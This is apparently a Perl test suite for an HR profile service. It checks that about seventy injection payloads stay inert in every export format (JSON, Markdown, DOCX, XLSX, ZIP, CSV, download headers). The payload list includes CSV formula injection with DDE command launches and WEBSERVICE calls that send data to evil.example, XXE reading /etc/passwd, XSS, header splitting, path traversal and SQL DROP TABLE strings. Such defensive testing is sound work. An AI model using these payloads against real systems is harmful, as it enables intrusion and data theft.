# Texts that attack their reader, through the edit and the database into every form of a
# profile: JSON, Markdown, DOCX, XLSX, ZIP, the list as CSV and XLSX, and the headers.

use HR::Test 'no_plan';

use File::Temp ();
use IO::Uncompress::Unzip qw( $UnzipError );
use JSON::PP ();

our $ID = 'bbbbbbbb-0000-4000-8000-000000000001';

# Characters; each stands in a field of the document and in a column of the row.
our @PAYLOADS = (
    # formulas
    '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=cmd|\'/C calc\'!A0', "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/"&A1)', '"=1+1', '","=1+1', "x\n=1+1", '＝1+1',
    ' =1+1', '=DDE("cmd";"/C calc";"x")',
    # headers and file names
    "x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.example", 'x"; filename="evil.exe',
    '../../etc/passwd', '..\\..\\windows\\system32', '/etc/passwd', 'C:\\evil', 'CON', 'nul.txt',
    'a;b', "x\x{85}y", "x\x{2028}y", '%0d%0aSet-Cookie:a=b', '.htaccess', '-rf', '~root',
    # HTML and XML
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>',
    '"><b>x</b>', "' onmouseover='alert(1)", '</w:t></w:r></w:p>', '<!-- x -->', ']]>',
    '<![CDATA[x]]>', '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '&e;', '&amp;', '&#0;', '&#x41;', '<iframe src="javascript:alert(1)"></iframe>',
    '{{7*7}}', '${7*7}', '<%= 7*7 %>',
    # Markdown
    '[x](javascript:alert(1))', '![x](http://evil.example/x.png)', '[x]: http://evil.example',
    '<http://evil.example>', '# heading', '> quote', '- item', '1. item', '| a | b |', '---',
    '```', '`x`', '**x**', '_x_', '\\', '\\<script>', "x\n\n<script>alert(1)</script>",
    # directions, controls, lengths
    "\x{202E}gpj.exe", "\x{200F}x\x{2066}y", "x\x{1}y", "x\x{8}y", "x\x{1B}[31my", "\x{FEFF}x",
    "\x{FFFE}x", "\x{1F468}\x{200D}\x{1F469}", 'e' . "\x{301}" x 60, 'W' x 5_000,
    "\x{10FFFF}", "' OR 1=1 --", '\'; DROP TABLE profiles; --',
);

our $json = JSON::PP->new->utf8->allow_nonref;

sub ask (@) {
    my ($method, $url, $body) = @_;
    return HR::Test::State::client()->request($method, $url, body => $body,
        headers => { Authorization => 'Bearer ' . HR::Test::State::token('admin') });
}

# {name => content} of a package; dies when it is damaged.
sub parts_of (@) {
    my ($bytes) = @_;

    my %parts;
    my $zip = IO::Uncompress::Unzip->new(\$bytes) or die "no package: $UnzipError\n";
    for (my $more = 1; $more > 0; $more = $zip->nextStream) {
        my $name = $zip->getHeaderInfo->{Name} // last;
        my ($text, $block) = ('');
        $text .= $block while $zip->read($block) > 0;
        die "twice: $name\n" if exists $parts{$name};
        $parts{$name} = $text;
    }
    return %parts;
}

# '' or what is wrong with an XML text.
sub xml_fault (@) {
    my ($text) = @_;

    utf8::decode($text) or return 'no UTF-8';
    return 'a control character'
        if $text =~ /[^\t\n\r\x20-\x{D7FF}\x{E000}-\x{FFFD}\x{10000}-\x{10FFFF}]/;
    return 'a document type' if $text =~ /<!/;
    $text =~ s/\A<\?xml[^?]*\?>//;
    return 'an instruction' if $text =~ /<\?/;

    my @open;
    while ($text =~ /\G(?:([^<]+)|<(\/?)([\w:]+)((?:\s+[\w:]+="[^"<]*")*)\s*(\/?)>)/gc) {
        my ($chars, $end, $name, $attributes, $empty) = ($1, $2, $3, $4, $5);
        return 'a bare &'
            if ($chars // $attributes) =~ /&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[0-9A-Fa-f]+);)/;
        next if defined $chars;
        if ($end) { return "end of $name" if (pop @open // '') ne $name }
        elsif (!$empty) { push @open, $name }
    }
    return 'no XML at ' . substr $text, pos $text // 0, 40 if (pos $text // 0) < length $text;
    return @open ? "open: @open" : '';
}

sub package_fault (@) {
    my ($bytes) = @_;

    my %parts = eval { parts_of($bytes) } or return "$@";
    for my $name (sort keys %parts) {
        return "name $name" if $name =~ m{^/|\\|\.\./|[\x00-\x1f]};
        next if $name !~ /\.(?:xml|rels)\z/;
        my $fault = xml_fault($parts{$name});
        return "$name: $fault" if $fault ne '';
        return "$name: a formula" if $parts{$name} =~ /<f[ >]/ && $name =~ /sheet/;
        return "$name: an external link" if $parts{$name} =~ /TargetMode="External"/;
        return "$name: a field" if $parts{$name} =~ /instrText[^>]*>[^<]*(?:DDE|evil)/;
    }
    return '';
}

# Active content that a Markdown viewer would take seriously.
sub markdown_fault (@) {
    my ($text) = @_;

    utf8::decode($text) or return 'no UTF-8';
    return "a tag: $&" if $text =~ /(?<!\\)(?:\\\\)*<(?!br>)[a-zA-Z!\/?][^\n]{0,20}/;
    return "a link: $&" if $text =~ /(?<!\\)\[[^\]\n]*(?<!\\)\][(:][^\n]{0,20}/;
    return 'a control character' if $text =~ /[\x00-\x08\x0b\x0c\x0e-\x1f]/;
    return '';
}

# Cells that a spreadsheet would compute.
sub csv_fault (@) {
    my ($text) = @_;

    utf8::decode($text) or return 'no UTF-8';
    $text =~ s/\A\x{FEFF}//;
    while ($text =~ /\G(?:"((?:[^"]|"")*)"|([^",;\r\n]*))(?:[,;]|\r?\n|\z)/gc) {
        my $cell = $1 // $2;
        return "a formula: $cell" if $cell =~ /\A[=+@\t\r\x{FF1D}]|\A-(?!\d+(?:\.\d+)?\z)/;
        last if pos $text >= length $text;
    }
    return pos($text) < length $text ? 'no CSV at ' . substr $text, pos $text, 40 : '';
}

sub header_fault (@) {
    my ($answer) = @_;

    my $name = $answer->{headers}{'content-disposition'} // return 'no name';
    return "a strange character: $name" if $name =~ /[^\x20-\x7e]/;
    return 'a header of its own'
        if $answer->{headers}{'set-cookie'} || $answer->{headers}{location};
    return "not a name: $name"
        if $name !~ /\Aattachment;\ filename="([^"\\\/]+)"
                     (?:;\ filename\*=UTF-8''([A-Za-z0-9._~!\#\$&+^`|%-]+))?\z/x;
    return "turned around: $name" if ($2 // '') =~ /%E2%80%A[A-E]|%E2%81%A[6-9]/i;
    return "a path: $name" if ($2 // '') =~ /%(?:2f|5c|0|1|7f)/i || $1 =~ /\.\.\//;
    return '';
}

sub shown (@) {
    my ($payload) = @_;
    return substr $json->encode($payload), 0, 40;
}

# Everything that leaves, after the payload was put in.
sub all_forms (@) {
    my ($name) = @_;

    my $base = "/api/profiles/$ID";
    my %fault = (docx => \&package_fault, xlsx => \&package_fault, md => \&markdown_fault,
                 json => sub { eval { $json->decode($_[0]); 1 } ? '' : $@ });
    for my $format (sort keys %fault) {
        my $answer = ask(GET => "$base/download/$format");
        is($answer->{status}, 200, "$name: $format") or next;
        is($fault{$format}->($answer->{body}), '', "$name: $format is harmless");
        is(header_fault($answer), '', "$name: name of the $format");
    }

    my $zip = ask(POST => '/api/profiles/bulk-download', { profile_ids => [$ID], format => 'md' });
    is($zip->{status}, 200, "$name: zip");
    is(package_fault($zip->{body}), '', "$name: zip has plain names");

    my $csv = ask(GET => '/api/profiles/export?format=csv');
    is($csv->{status}, 200, "$name: csv");
    is(csv_fault($csv->{body}), '', "$name: csv computes nothing");
    my $list = ask(GET => '/api/profiles/export?format=xlsx');
    is(package_fault($list->{body}), '', "$name: list as xlsx");
}

run_tests();

__DATA__

=== TEST 1: a text of the document, by the edit
--- hr_database: t/data/profiles.sql
--- timeout: 60
--- setup
cmp_ok(scalar @PAYLOADS, '>=', 50, 'payloads: ' . @PAYLOADS);
my $profile = api(GET => "/api/profiles/$ID")->{profile};
for my $payload (@PAYLOADS) {
    my $name = shown($payload);
    my %edited = (%$profile, primary_activity_type => "$payload");
    my $answer = ask(PUT => "/api/profiles/$ID/content", { profile_data => \%edited });
    like($answer->{status}, qr/^(?:200|400|422)$/, "$name: taken or refused");
    next if $answer->{status} != 200;
    all_forms($name);
}
--- request
GET /health



=== TEST 2: names of the row, as a foreign program may have written them
--- hr_database: t/data/profiles.sql
--- hr_config: hr_cache size=8m shards=4 enabled=off;
--- timeout: 60
--- setup
for my $payload (@PAYLOADS) {
    my $hex = unpack 'H*', do { my $bytes = $payload; utf8::encode($bytes); $bytes };
    sql("UPDATE profiles SET position = CAST(x'$hex' AS TEXT), employee_name = position,"
        . " department = CAST(x'$hex' AS TEXT) WHERE id = '$ID'");
    my $answer = ask(GET => "/api/profiles/$ID");
    is($answer->{json}{position}, $payload, shown($payload) . ': JSON gives it back');
    all_forms(shown($payload));
}
--- request
GET /health



=== TEST 3: NUL, broken UTF-8 and lone surrogates never get in
--- hr_database: t/data/profiles.sql
--- setup
for my $text ('a\u0000b', "a\xffb", "a\xc0\xafb", "a\xed\xa0\x80b", "a\x00b", 'a\ud800b') {
    my $answer = HR::Test::State::client()->request(PUT => "/api/profiles/$ID",
        body => qq({"employee_name":"$text"}), headers => {
            Authorization => 'Bearer ' . HR::Test::State::token('admin'),
            'Content-Type' => 'application/json' });
    like($answer->{status}, qr/^(?:400|422)$/, 'refused: ' . $json->encode($text));
}
--- request
GET /health
--- db
SELECT count(*) FROM profiles WHERE instr(employee_name, char(0)) > 0 => 0
